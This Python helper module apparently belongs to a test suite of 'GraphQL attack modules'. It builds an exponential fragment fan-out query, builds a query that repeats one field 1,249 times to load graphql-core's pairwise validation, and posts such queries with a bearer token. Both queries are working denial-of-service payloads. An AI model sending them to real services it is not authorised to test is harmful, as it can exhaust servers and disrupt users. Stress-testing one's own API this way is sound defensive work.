"""Shared by the GraphQL attack modules: a raw POST to /graphql, and the fan-out document."""

from __future__ import annotations

from typing import Any

import httpx


def fan_out(levels: int) -> str:
    """~1 KB for 24 levels: each fragment spreads the next one twice (2**levels expansions)."""
    frags = [f"fragment F{i} on Query {{ ...F{i + 1} ...F{i + 1} }}" for i in range(levels)]
    frags.append(f"fragment F{levels} on Query {{ viewer {{ loginId }} }}")
    return "query FanOut { ...F0 } " + " ".join(frags)


def at_the_token_limit() -> str:
    """4,998 tokens: one field selected 1,249 times (graphql-core compares every pair)."""
    return "{ " + " ".join("viewer { loginId }" for _ in range(1249)) + " }"


async def post(
    client: httpx.AsyncClient,
    token: str,
    query: str,
    variables: dict[str, Any] | None = None,
) -> httpx.Response:
    """POST a GraphQL document with a bearer token."""
    return await client.post(
        "/graphql",
        json={"query": query, "variables": variables or {}},
        headers={"Authorization": f"Bearer {token}"},
    )
